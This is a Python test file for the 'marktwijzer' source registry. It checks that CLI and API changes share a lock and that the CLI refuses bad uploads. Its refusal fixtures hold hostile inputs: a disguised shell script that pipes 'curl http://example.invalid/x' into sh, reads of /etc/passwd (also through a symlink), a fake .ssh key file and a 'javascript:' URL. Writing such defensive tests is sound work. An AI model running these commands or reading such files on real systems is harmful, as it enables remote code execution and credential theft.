"""Issue 20, finding 2: every registry change takes one locked path, the CLI as well as the API.

The CLI loaded and saved sources.toml without the lock the API takes: run beside API uploads, a
withdraw exited 0 while the source stayed approved, and an upload answered 201 and then vanished
from the registry with its file orphaned. The CLI also accepted a shell script and system files, and
printed a traceback for a bad --published.

The CLI runs as real `marktwijzer` processes, the API as a real uvicorn server on loopback.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from ingest.models import IngestReport
from ingest.registry import Registry, SourceEntry, SourceStatus, SourceType, load_registry, save_registry
from ingest.settings import Settings
from tests.apiserver import ADMIN_KEY, ApiServer, copy_index, snapshot, start_server

REPO = Path(__file__).resolve().parent.parent
MARKTWIJZER = Path(sys.executable).parent / "marktwijzer"
# A registry of this size makes one load + save take ~0.1 s: long enough that an unlocked writer
# running beside the API overlaps an API change in nearly every round.
FILLER = 800
ROUNDS = 3
MAX_UPLOADS_PER_WORKER = 150


def _env(settings: Settings) -> dict[str, str]:
    return {
        **os.environ,
        "MARKTWIJZER_DATA_DIR": str(settings.data_dir),
        "MARKTWIJZER_CORPUS_DIR": str(settings.corpus_dir),
        "PYTHONPATH": str(REPO),  # the code of this checkout, also when run in a worktree
    }


def _cli(settings: Settings, *args: str) -> subprocess.Popen[str]:
    return subprocess.Popen([str(MARKTWIJZER), "sources", *args], env=_env(settings), cwd=settings.corpus_dir.parent,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _run_cli(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    process = _cli(settings, *args)
    out, err = process.communicate(timeout=120)
    return subprocess.CompletedProcess(process.args, process.returncode, out, err)


def _filler(index: int) -> SourceEntry:
    return SourceEntry(
        id=f"vulling-{index:04d}", title=f"Vulbron {index}", publisher="Test", edition="1", published=2024,
        type=SourceType.factsheet, file=f"vulling/{index:04d}.txt", regions=["Testwoud"],
        municipalities=["Testdorp", "Testrade"],
        status=SourceStatus.approved if index % 2 == 0 else SourceStatus.draft,
    )


@pytest.fixture(scope="module")
def server(built_index: tuple[Settings, IngestReport], tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiServer]:
    root = tmp_path_factory.mktemp("registry-locked")
    settings = copy_index(built_index[0], root)
    registry = load_registry(settings.registry_path)
    save_registry(Registry(sources=[*registry.sources, *map(_filler, range(FILLER))]), settings.registry_path)
    running = start_server(settings, root / "run", MARKTWIJZER_RATE_LIMIT_PER_MINUTE="0", PYTHONPATH=str(REPO))
    yield running
    running.stop()


def _upload_loop(server: ApiServer, worker: int, stop: threading.Event, accepted: list[str], problems: list[str]) -> None:
    with server.client(ADMIN_KEY) as admin:
        for n in range(MAX_UPLOADS_PER_WORKER):
            if stop.is_set():
                return
            source_id = f"api-{worker}-{n:03d}"
            text = f"# Bericht {source_id}\n\nIn Testwoud waren in 2025 precies {100 + n} vacatures.\n"
            response = admin.post("/v1/sources", files={"file": (f"{source_id}.txt", text.encode())},
                                  data={"title": f"Bericht {source_id}", "id": source_id, "status": "draft"})
            if response.status_code == 201:
                accepted.append(source_id)
            else:
                problems.append(f"{source_id}: {response.status_code} {response.text[:200]}")


def test_cli_and_api_changes_run_concurrently_and_none_is_lost(server: ApiServer, tmp_path: Path) -> None:
    settings = server.settings
    accepted: list[str] = []
    problems: list[str] = []
    stop = threading.Event()
    uploaders = [threading.Thread(target=_upload_loop, args=(server, w, stop, accepted, problems)) for w in range(2)]
    expected_status: dict[str, SourceStatus] = {}
    cli_added: list[str] = []
    for thread in uploaders:
        thread.start()
    try:
        for round_ in range(ROUNDS):
            upload = tmp_path / f"cli-bron-{round_}.md"
            upload.write_text(f"# CLI-bron {round_}\n\nIn Testdal werkten in 2024 {500 + round_} mensen in de zorg.\n")
            withdraw, approve = f"vulling-{2 * round_:04d}", f"vulling-{2 * round_ + 1:04d}"
            processes = {
                "add": _cli(settings, "add", str(upload), "--id", f"cli-bron-{round_}", "--title", f"CLI-bron {round_}"),
                "withdraw": _cli(settings, "withdraw", withdraw),
                "approve": _cli(settings, "approve", approve),
            }
            for name, process in processes.items():
                out, err = process.communicate(timeout=120)
                assert process.returncode == 0, f"{name}: {err}"
            cli_added.append(f"cli-bron-{round_}")
            expected_status[withdraw] = SourceStatus.withdrawn
            expected_status[approve] = SourceStatus.approved
    finally:
        stop.set()
        for thread in uploaders:
            thread.join(timeout=120)
    assert not problems, problems[:5]
    assert len(accepted) >= ROUNDS, "the uploads did not overlap the CLI changes"

    registry = load_registry(settings.registry_path)
    ids = {entry.id for entry in registry.sources}
    lost_uploads = [source_id for source_id in accepted if source_id not in ids]
    assert not lost_uploads, f"{len(lost_uploads)} uploads answered 201 and vanished: {lost_uploads[:5]}"
    assert all(source_id in ids for source_id in cli_added), sorted(set(cli_added) - ids)
    lost_changes = {source_id: registry.get(source_id).status.value for source_id, status in expected_status.items()
                    if registry.get(source_id).status is not status}
    assert not lost_changes, f"CLI status changes lost: {lost_changes}"
    assert len(registry.sources) == 5 + FILLER + len(accepted) + len(cli_added)
    # every file in the corpus belongs to a registry entry and every new entry has its file
    on_disk = {str(p.relative_to(settings.corpus_dir)) for p in (settings.corpus_dir / "files").iterdir()}
    registered = {entry.file for entry in registry.sources if entry.file.startswith("files/")}
    assert on_disk == registered, {"orphaned": sorted(on_disk - registered)[:5], "missing": sorted(registered - on_disk)[:5]}


def _shell_script(tmp_path: Path) -> Path:
    path = tmp_path / "installeer.txt"
    path.write_text("#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    return path


def _named_shell_script(tmp_path: Path) -> Path:
    path = tmp_path / "installeer.sh"
    path.write_text("echo hallo\n")
    return path


def _hidden(tmp_path: Path) -> Path:
    (tmp_path / ".ssh").mkdir()
    path = tmp_path / ".ssh" / "sleutels.txt"
    path.write_text("geheime sleutel\n")
    return path


def _text(tmp_path: Path) -> Path:
    path = tmp_path / "notitie.txt"
    path.write_text("Een gewone notitie over vacatures in Testwoud.\n")
    return path


CLI_REFUSALS = [
    ("shell script named .txt", _shell_script, [], "script"),
    ("shell script", _named_shell_script, [], "niet aangenomen"),
    ("system file", lambda _: Path("/etc/passwd"), [], "systeembestand"),
    ("system file via symlink", lambda t: (t / "passwd.txt").symlink_to("/etc/passwd") or t / "passwd.txt", [],
     "systeembestand"),
    ("hidden directory", _hidden, [], "verborgen"),
    ("bad --published", _text, ["--published", "vorig jaar"], "'published' moet een jaar"),
    ("bad --published date", _text, ["--published", "2025-13-01"], "'published' moet een jaar"),
    ("javascript: url", _text, ["--url", "javascript:alert(1)"], "url"),
]


@pytest.mark.parametrize(("case", "make", "extra", "message"), CLI_REFUSALS, ids=[c[0] for c in CLI_REFUSALS])
def test_cli_add_refuses_what_an_upload_refuses(
    server: ApiServer, tmp_path: Path, case: str, make, extra: list[str], message: str  # noqa: ANN001
) -> None:
    settings = server.settings
    path = make(tmp_path)
    before = snapshot(settings)
    source_id = "cli-" + "-".join(case.replace(":", "").replace("-", "").split())  # own id: cases stay independent
    result = _run_cli(settings, "add", str(path), "--id", source_id, "--title", "Geweigerd", *extra)
    assert result.returncode == 1, (case, result.stdout, result.stderr)
    said = " ".join(result.stderr.split())  # the console wraps long lines
    assert said.startswith("fout:") and message in said, result.stderr
    assert "Traceback" not in said and str(settings.corpus_dir) not in said
    assert snapshot(settings) == before


def test_cli_status_change_of_unknown_source_fails_clearly(server: ApiServer) -> None:
    result = _run_cli(server.settings, "withdraw", "bestaat-niet")
    assert result.returncode == 1 and "Geen bron met id 'bestaat-niet'" in result.stderr
    assert "Traceback" not in result.stderr


def test_cli_add_refuses_marktwijzers_own_files(server: ApiServer) -> None:
    """The registry itself, or anything in the data directory, never becomes a source."""
    settings = server.settings
    before = snapshot(settings)
    for path in (settings.registry_path, settings.index_dir / "CURRENT"):
        result = _run_cli(settings, "add", str(path), "--id", "cli-eigen-bestand", "--title", "Eigen")
        said = " ".join(result.stderr.split())
        assert result.returncode == 1 and "hoort bij Marktwijzer zelf" in said, result.stderr
    assert snapshot(settings) == before
